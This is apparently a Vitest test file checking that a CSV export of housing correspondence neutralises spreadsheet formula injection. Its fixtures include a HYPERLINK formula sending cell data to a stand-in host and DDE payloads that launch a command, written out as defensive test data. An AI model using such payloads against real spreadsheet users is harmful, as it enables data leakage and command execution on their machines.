import { describe, expect, it } from "vitest";
import { parseCsv } from "../office/csv.ts";
import { type PaperItem, paperCsv } from "./paperList.ts";

const item = (over: Partial<PaperItem>): PaperItem => ({
  correspondence_id: "L1",
  flat: "KEL10-A-1",
  address: "ul. Kelecka 10 m. 1",
  owners: ["Jan Kowalski"],
  category: "water_bill",
  subject: "Rachunek za wodę",
  generated_at: "2026-03-02T08:00:00Z",
  reason: "grace_period",
  source: "routed",
  at: "2026-03-02T09:00:00Z",
  ...over,
});

describe("paper-list CSV", () => {
  it("neutralises cells a spreadsheet would run as a formula (=, +, -, @, tab, CR)", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
      "+48 600 100 200",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
    ];
    const csv = paperCsv(
      hostile.map((text, n) =>
        item({ correspondence_id: `L${n}`, subject: text, address: text, owners: [text, "Anna Nowak"] }),
      ),
    );
    const [header, ...rows] = parseCsv(csv);
    const column = (name: string) => header.indexOf(name);
    rows.forEach((row, n) => {
      for (const name of ["subject", "address", "owners"]) {
        const cell = row[column(name)];
        expect(cell.startsWith("'"), `${name}: ${JSON.stringify(cell)}`).toBe(true);
        expect(cell.slice(1).startsWith(hostile[n])).toBe(true);
      }
    });
  });

  it("leaves ordinary cells as they are", () => {
    const [, row] = parseCsv(paperCsv([item({ subject: "Opłaty: 2026 r.; zmiana" })]));
    expect(row).toEqual([
      "L1",
      "KEL10-A-1",
      "ul. Kelecka 10 m. 1",
      "Jan Kowalski",
      "water_bill",
      "Opłaty: 2026 r.; zmiana",
      "2026-03-02T08:00:00Z",
      "grace_period",
      "routed",
      "2026-03-02T09:00:00Z",
    ]);
  });
});
